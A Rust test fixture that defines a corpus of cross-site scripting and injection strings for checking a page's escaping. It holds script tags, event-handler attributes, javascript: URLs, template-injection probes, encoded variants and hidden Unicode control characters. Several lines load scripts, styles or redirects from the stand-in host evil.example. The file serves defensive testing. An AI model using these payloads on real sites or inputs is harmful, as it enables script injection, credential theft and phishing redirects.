//! Texts of others that attack a page: markup in each place where a page could put them, and hidden
//! characters.

/// One attack each. Whatever gets through calls `hit`, loads from `evil.example`, or leaves a
/// foreign element.
pub(super) const CORPUS: &[&str] = &[
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><img src=x onerror=hit()>",
    "'><svg/onload=hit()>",
    "\" autofocus onfocus=hit() x=\"",
    "' onmouseover='hit()' style='position:fixed;inset:0'",
    "</textarea><script>hit()</script>",
    "</title></head><body onload=hit()>",
    "</code></pre><iframe srcdoc=\"<script>parent.hit()</script>\"></iframe>",
    "</td></tr></table><object data=//evil.example/x></object>",
    "</select><option onclick=hit() selected>",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "<a href=javascript:hit()>press me</a>",
    "<form action=https://evil.example/><button>press me</button></form>",
    "<input name=form_token value=known>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<details open ontoggle=hit()>",
    "<math><mi//xlink:href=\"data:x,<script>hit()</script>\">",
    "<template><script>hit()</script></template>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "%3Cscript%3Ehit()%3C/script%3E",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "<!-- not closed",
    "]]><![CDATA[<script>hit()</script>",
    "\u{202e}txt.exe\u{2066}\u{200b}\u{feff}",
    "\u{ff1c}script\u{ff1e}hit()\u{ff1c}/script\u{ff1e}",
    "\u{e0041}\u{1b}[2J\u{7}\u{85}\u{2028}",
];

/// Returns all attacks in one text.
pub(super) fn all() -> String {
    CORPUS.join(" ")
}
